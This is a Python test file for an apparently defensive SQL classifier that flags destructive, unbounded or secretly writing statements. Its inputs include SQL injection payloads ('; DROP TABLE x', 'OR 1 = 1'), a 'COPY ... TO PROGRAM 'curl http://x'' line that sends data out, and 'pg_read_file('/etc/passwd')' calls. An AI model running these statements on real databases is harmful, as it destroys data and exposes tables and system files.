"""SQL is judged by what it does, whatever it looks like."""

from __future__ import annotations

import logging

import pytest
from hypothesis import given
from hypothesis import strategies as st

from placet.events import StatementKind
from services.classifier.analysis import shape, sql
from services.classifier.analysis.unwrapping import inserts
from tests.classifier_parts import configuration, passage

READING = configuration().reading_functions


def facts(text: str) -> sql.SqlFacts:
    return sql.inspect(text, READING)


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        ("SELECT 1", "select"),
        ("/* x */ dRoP\nTABLE customers", "drop"),
        ("/* /* nested */ */ DELETE FROM t WHERE id = 1", "delete"),
        ("SELECT 1; DROP TABLE x", "select drop"),
        ("SELECT 1 -- \r; DROP TABLE x", "select drop"),
        ("SELECT '\\'; DROP TABLE x; --'", "select drop"),
        ("SELECT E'\\'; DROP TABLE x; --'", "select"),
        ("SELECT $a$ ; DROP TABLE x $a$", "select"),
        ("WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d", "select delete"),
        ("SELECT * INTO backup FROM customers", "select create"),
        ("INSERT INTO t VALUES (1)", "insert"),
        ("UPDATE t SET a = 1 WHERE id = 2", "update"),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "merge"),
        ("TRUNCATE a, b", "truncate"),
        ("ALTER TABLE customers DROP COLUMN x", "alter"),
        ("ALTER USER bob WITH PASSWORD 'x'", "alter"),
        ("CREATE ROLE bob", "create"),
        ("DROP ROLE bob", "drop"),
        ("GRANT SELECT ON customers TO bob", "grant"),
        ("GRANT admin TO bob", "grant"),
        ("GRANT SELECT ON ALL TABLES IN SCHEMA public TO bob", "grant"),
        ("REVOKE ALL ON customers FROM bob", "revoke"),
        ("COPY customers TO '/tmp/x'", "copy"),
        ("TABLE customers", "select"),
        ("VALUES (1)", "select"),
        ("DO $$ BEGIN EXECUTE 'drop table x'; END $$", "other"),
        ("EXECUTE foo(1)", "other"),
        ("CALL p()", "other"),
        ("EXPLAIN ANALYZE DELETE FROM t", "other"),
        ("SET ROLE admin", "other"),
        ("LISTEN x", "other"),
        ("BEGIN; DELETE FROM x; COMMIT", "other delete"),
        ("SELECT FROM WHERE", "unparsed"),
        ("SELECT 1\\; DROP TABLE x", "unparsed"),
        ("SELECT\u00a01", "unparsed"),
        ("SELECT\x00 1", "unparsed"),
        ("UPDATE the records", "unparsed"),
        ("(" * 500, "unparsed"),
        ("SELECT " + "1+" * 15_000 + "1", "unparsed"),
        ("", ""),
        ("-- nothing", ""),
    ],
)
def test_kinds_of_statements(text: str, kinds: str) -> None:
    assert facts(text).kinds == tuple(StatementKind(kind) for kind in kinds.split())


@pytest.mark.parametrize(
    ("text", "count"), [("SELECT 1", 1), ("SELECT 1;", 1), ("SELECT 1; SELECT 2", 2), (";;", 0), ("BEGIN; COMMIT", 2)]
)
def test_every_statement_counts(text: str, count: int) -> None:
    assert facts(text).count == count


@pytest.mark.parametrize(
    ("text", "writes"),
    [
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", True),
        ("WITH d AS (SELECT 1) SELECT * FROM d", False),
        ("SELECT * INTO x FROM t", True),
        ("COPY t TO PROGRAM 'curl http://x'", True),
        ("COPY t TO STDOUT", False),
        ("SELECT nextval('s')", True),
        ("SELECT \"setval\"('s', 1)", True),
        ("SELECT pg_catalog.setval('s', 1)", True),
        ("SELECT lo_import('/etc/passwd')", True),
        ("SELECT pg_read_file('/etc/passwd')", True),
        ("SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)", True),
        ("SELECT query_to_xml('DELETE FROM t', true, true, '')", True),
        ("SELECT set_config('role', 'admin', false)", True),
        ("SELECT my_own_function()", True),
        ("SELECT mine.lower('x')", True),
        ("SELECT pg_catalog.lower('x')", False),
        ("SELECT lower(a), now(), coalesce(a, b), date_trunc('day', c), jsonb_build_object('a', 1) FROM t", False),
        ("SELECT current_setting('x'), random(), gen_random_uuid()", False),
        ("DELETE FROM t", False),  # says so on its face
    ],
)
def test_what_reads_on_its_face_and_writes_inside(text: str, *, writes: bool) -> None:
    assert facts(text).writes_in_query is writes


@pytest.mark.parametrize(
    ("text", "unbounded"),
    [
        ("SELECT a FROM t", True),
        ("SELECT a FROM t WHERE id = 1", False),
        ("SELECT a FROM t LIMIT 10", False),
        ("SELECT a FROM t LIMIT ALL", True),
        ("SELECT a FROM t FETCH FIRST 5 ROWS ONLY", False),
        ("SELECT a FROM t WHERE true", True),
        ("SELECT a FROM t WHERE 1 = 1", True),
        ("SELECT a FROM t WHERE id = 1 OR 1 = 1", True),
        ("SELECT a FROM t WHERE NOT false", True),
        ("SELECT a FROM t WHERE 'a' = $1", False),
        ("SELECT 1", False),
        ("SELECT count(*) FROM t", False),
        ("SELECT max(a) FROM t", True),
        ("SELECT a FROM (SELECT a FROM t WHERE id = 1) x", False),
        ("SELECT a FROM (SELECT a FROM t) x", True),
        ("WITH x AS (SELECT a FROM t LIMIT 5) SELECT a FROM x", False),
        ("WITH x AS (SELECT a FROM t) SELECT a FROM x", True),
        ("SELECT a FROM t WHERE id = 1 UNION SELECT a FROM u", True),
        ("DELETE FROM t", True),
        ("DELETE FROM t WHERE id = 1", False),
        ("UPDATE t SET a = 1", True),
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT a FROM d LIMIT 1", True),
        ("INSERT INTO t SELECT a FROM u", True),
        ("INSERT INTO t VALUES (1)", False),
        ("COPY t TO STDOUT", True),
        ("COPY (SELECT a FROM t WHERE id = 1) TO STDOUT", False),
        ("CREATE TABLE x AS SELECT a FROM t", True),
    ],
)
def test_what_has_no_bound(text: str, *, unbounded: bool) -> None:
    assert facts(text).unbounded is unbounded


@pytest.mark.parametrize(
    ("text", "everything"),
    [
        ("SELECT * FROM t", True),
        ("SELECT t.* FROM t", True),
        ("TABLE t", True),
        ("SELECT t FROM t", True),
        ("SELECT to_jsonb(c) FROM customers c", True),
        ("DELETE FROM t WHERE id = 1 RETURNING *", True),
        ("COPY t TO STDOUT", True),
        ("COPY t (a) TO STDOUT", False),
        ("SELECT count(*) FROM t", False),
        ("SELECT a FROM t", False),
        ("SELECT a * 2 FROM t", False),
    ],
)
def test_what_selects_all_columns(text: str, *, everything: bool) -> None:
    assert facts(text).selects_all_columns is everything


@pytest.mark.parametrize(
    ("text", "aggregates"),
    [
        ("SELECT count(*) FROM customers", True),
        ("SELECT country, count(*) FROM customers GROUP BY country", True),
        ("SELECT round(sum(a) / count(*), 2), avg(b)::int FROM t", True),
        ("SELECT date_trunc('day', at), count(*) FROM t GROUP BY 1", True),
        ("SELECT count(*) FILTER (WHERE a) FROM t", True),
        ("SELECT email, count(*) FROM customers GROUP BY email", False),
        ("SELECT customer_id, count(*) FROM orders GROUP BY customer_id", False),
        ("SELECT string_agg(email, ',') FROM customers", False),
        ("SELECT max(email) FROM customers", False),
        ("SELECT count(*), (SELECT email FROM customers LIMIT 1) FROM t", False),
        ("SELECT count(*) FROM t; SELECT a FROM t", False),
        ("DELETE FROM t", False),
    ],
)
def test_what_only_aggregates(text: str, *, aggregates: bool) -> None:
    assert facts(text).only_aggregates is aggregates


@pytest.mark.parametrize(
    ("text", "tables"),
    [
        ("SELECT a FROM Customers c JOIN sales.Orders o ON c.id = o.id", ("customers", "sales.orders")),
        ('SELECT a FROM "Customers"', ("Customers",)),
        ("WITH x AS (SELECT a FROM t) SELECT a FROM x", ("t",)),
        ("WITH customers AS (SELECT a FROM customers) SELECT a FROM customers", ("customers",)),
        ("SELECT a FROM generate_series(1, 2)", ()),
        ("TRUNCATE a, b", ("a", "b")),
        ("GRANT SELECT ON customers TO bob", ("customers",)),
        ("DELETE FROM t USING u WHERE t.id = u.id", ("t", "u")),
    ],
)
def test_tables(text: str, tables: tuple[str, ...]) -> None:
    assert facts(text).tables == tables


def test_literals_stand_against_their_columns() -> None:
    text = "SELECT a FROM t WHERE full_name = 'Jane ''J'' Roe' AND country IN ('DE')"
    told = {(one.column, text[one.start : one.end]) for one in facts(text).told}
    assert told == {("full_name", "Jane ''J'' Roe"), ("country", "DE")}
    insert = "INSERT INTO customers (full_name, email) VALUES ('Jane Roe', 'j@x.example')"
    assert facts(insert).told == ()  # rows have names over them, whatever the dialect
    assert [one.value for one in inserts.find(insert)] == ["Jane Roe", "j@x.example"]


def test_the_parser_logs_no_statement(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.DEBUG):
        facts("ALTER USER bob WITH PASSWORD 'canary-4711'")
    assert caplog.text == ""


@given(st.text(max_size=300))
def test_any_text_has_facts(text: str) -> None:
    assert isinstance(facts(text), sql.SqlFacts)


@given(st.text(alphabet="selct fromw *();'\"-/\\$\n,=1abDELT", max_size=80))
def test_anything_that_looks_like_sql_has_facts(text: str) -> None:
    assert isinstance(facts("SELECT " + text), sql.SqlFacts)


@pytest.mark.parametrize(
    ("text", "name", "database", "expected"),
    [
        ("SELECT 1", "x", False, True),
        ("/* x */ dRoP\nTABLE c", "note", False, True),
        ("/* /* */ */ drop table c", "note", False, True),
        ("-- c\n;(SELECT 1)", "x", False, True),
        ("anything", "sql", False, True),
        ("anything", "sqlText", False, True),
        ("anything", "statements", False, True),
        ("anything", "query", True, True),
        ("red shoes", "query", False, False),
        ("Update the records", "note", True, False),
        ("Select one of these", "note", True, False),
        ("Grant access to Bob", "message", False, False),
        ("GRANT SELECT ON x TO bob", "message", False, True),
        ("With love from Bob", "message", False, False),
        ("Drop me a line", "message", True, False),
        ("customers; DROP TABLE x", "table", True, True),
        ("customers; see below", "note", True, False),
    ],
)
def test_what_is_judged_as_sql(text: str, name: str, *, database: bool, expected: bool) -> None:
    assert shape.is_sql(passage(text, name), database=database) is expected
